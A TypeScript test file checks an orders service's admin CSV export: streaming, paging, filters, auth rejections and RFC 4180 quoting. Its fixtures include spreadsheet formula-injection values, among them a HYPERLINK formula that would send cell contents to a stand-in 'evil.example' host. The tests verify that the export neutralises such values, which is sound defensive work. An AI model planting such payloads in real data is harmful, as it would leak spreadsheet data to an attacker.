import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrder } from './helpers/orders.js';
import { ADMIN_TOKEN, admin, createGame, startService, type TestGame, type TestService } from './helpers/service.js';
import { CSV_COLUMNS, csvCell } from '../src/orders/csv.js';

// CSV export of an order listing (GET /admin/v1/orders.csv): the listing's filters, every
// matching order streamed, cells quoted per RFC 4180 and safe to open in a spreadsheet.

let t: TestService;
beforeAll(async () => {
  t = await startService();
});
afterAll(async () => {
  await t?.stop();
});

const csv = (q: string, token = ADMIN_TOKEN) => fetch(`${t.url}/admin/v1/orders.csv${q}`, { headers: { authorization: `Bearer ${token}` } });

/** RFC 4180 lines back into cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  expect(cell).toBe('');
  return rows;
}

describe('orders CSV export', () => {
  let g: TestGame;
  const tricky = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2-3', '@SUM(A1)', 'line one\r\nline "two", three'];

  beforeAll(async () => {
    g = await createGame(t);
    for (const [i, context] of tricky.entries()) await createOrder(t, g, { reference_id: `ref-csv-${i}-0000`, context });
    await createOrder(t, g, { reference_id: '=ref-formula', combo_id: '@player' });
  });

  it('streams every order of a game, newest first, as an attachment with a proper filename', async () => {
    const r = await csv(`?game_id=${g.gameId}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="orders-${g.gameId}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(r.headers.get('cache-control')).toBe('no-store');
    const rows = parseCsv(await r.text());
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const listed = (await admin(t, 'GET', `/admin/v1/orders?game_id=${g.gameId}`)).body.data;
    expect(rows.slice(1).map((x) => x[0])).toEqual(listed.map((o: { order_id: string }) => o.order_id));
    const at = (col: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(col);
    const first = rows[1] as string[];
    expect(first[at('reference_id')]).toBe("'=ref-formula");
    expect(first[at('combo_id')]).toBe("'@player");
    expect(first[at('status')]).toBe('created');
    expect(first[at('is_sandbox')]).toMatch(/^(true|false)$/);
    expect(first[at('created_at')]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(first[at('paid_at')]).toBe('');
    // Every text cell a spreadsheet would take for a formula starts with an apostrophe.
    const contexts = rows.slice(2).map((x) => x[at('context')]).reverse();
    expect(contexts).toEqual(tricky.map((c) => (/^[=+\-@]/.test(c) ? `'${c}` : c)));
  });

  it('pages through more orders than one page holds, and applies the filters', async () => {
    const many = await createGame(t, { rate_limit_per_second: 10_000 });
    for (let i = 0; i < 205; i++) await createOrder(t, many, { reference_id: `ref-many-${String(i).padStart(4, '0')}` });
    const rows = parseCsv(await (await csv(`?game_id=${many.gameId}`)).text());
    expect(rows).toHaveLength(206);
    expect(new Set(rows.slice(1).map((x) => x[0])).size).toBe(205);
    const one = parseCsv(await (await csv(`?game_id=${many.gameId}&reference_id=ref-many-0007`)).text());
    expect(one.map((x) => x[CSV_COLUMNS.indexOf('reference_id')])).toEqual(['reference_id', 'ref-many-0007']);
    expect(parseCsv(await (await csv(`?game_id=${many.gameId}&status=paid`)).text())).toHaveLength(1);
    // Across games, by reference id (the search the console makes).
    const all = await csv('?reference_id=ref-many-0007');
    expect(all.headers.get('content-disposition')).toMatch(/filename="orders-all-games-/);
    expect(parseCsv(await all.text())).toHaveLength(2);
  });

  it('refuses bad filters and callers without the admin token', async () => {
    expect((await csv('?status=nope')).status).toBe(400);
    expect((await csv('?limit=5')).status).toBe(400);
    expect((await csv(`?reference_id=${'x'.repeat(65)}`)).status).toBe(400);
    expect((await csv('?game_id=bad%20id')).status).toBe(400);
    expect((await csv('', 'wrong-token-0123456789')).status).toBe(401);
  });

  it('quotes and neutralises cells', () => {
    expect(csvCell('reference_id', 'plain')).toBe('plain');
    expect(csvCell('context', 'a,b')).toBe('"a,b"');
    expect(csvCell('context', 'say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('context', '=1+1')).toBe("'=1+1");
    expect(csvCell('context', '\t=1')).toBe("'\t=1");
    expect(csvCell('context', '\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('context', '-x,y')).toBe(`"'-x,y"`);
    expect(csvCell('amount', -5)).toBe('-5');
    expect(csvCell('created_at', 0)).toBe('1970-01-01T00:00:00.000Z');
    expect(csvCell('context', null)).toBe('');
    expect(csvCell('is_sandbox', true)).toBe('true');
  });
});
